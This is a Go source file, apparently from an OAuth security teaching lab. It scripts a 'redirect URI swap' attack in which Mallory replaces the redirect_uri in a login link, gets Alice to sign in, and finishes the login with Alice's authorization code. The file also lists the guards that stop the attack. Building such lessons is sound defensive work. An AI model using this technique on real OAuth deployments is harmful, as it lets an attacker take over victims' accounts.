package attack

import (
	"context"
	"net/url"

	"oauthlab/lessons/guard"
)

// redirectSwap: Mallory begins a login at the client, swaps the redirect URI in the
// link for her own address, and has Alice open it (RFC 6749 §10.6). The code that
// comes to her fits the verifier of her own login: PKCE does not help.
func redirectSwap() Attack {
	return Attack{
		ID:      "redirect-swap",
		Title:   "The redirect URI swapped",
		Story:   "Mallory begins a login, puts her own address into its link, and mails it to Alice. The code that comes back fits Mallory's login.",
		Chapter: "v03", StoppedBy: []guard.ID{guard.IDRedirectURI, guard.IDCodeRedirectURI},
		Loss:     "In Mallory's browser the client acts for Alice.",
		Sections: []string{"RFC 6749 §10.6", "RFC 9700 §4.1"},
		Run: func(ctx context.Context, s *Scene) error {
			request, err := s.Mallory.Begin(ctx)
			if err != nil {
				return err
			}
			if err := s.mail(ctx, swapped(request, "redirect_uri", s.Lab.Origins.MallorySite(s.Lab.ID))); err != nil {
				return err
			}
			arrived, err := s.Alice.SignInHere(ctx)
			if err != nil || parameter(arrived, "code") == "" {
				return err
			}
			answer, err := url.Parse(arrived)
			if err != nil {
				return err
			}
			return s.Mallory.Finish(ctx, s.Lab.Origins.RedirectURI()+"?"+answer.RawQuery)
		},
		Harm: clientTook(malloryOf, "alice"),
	}
}
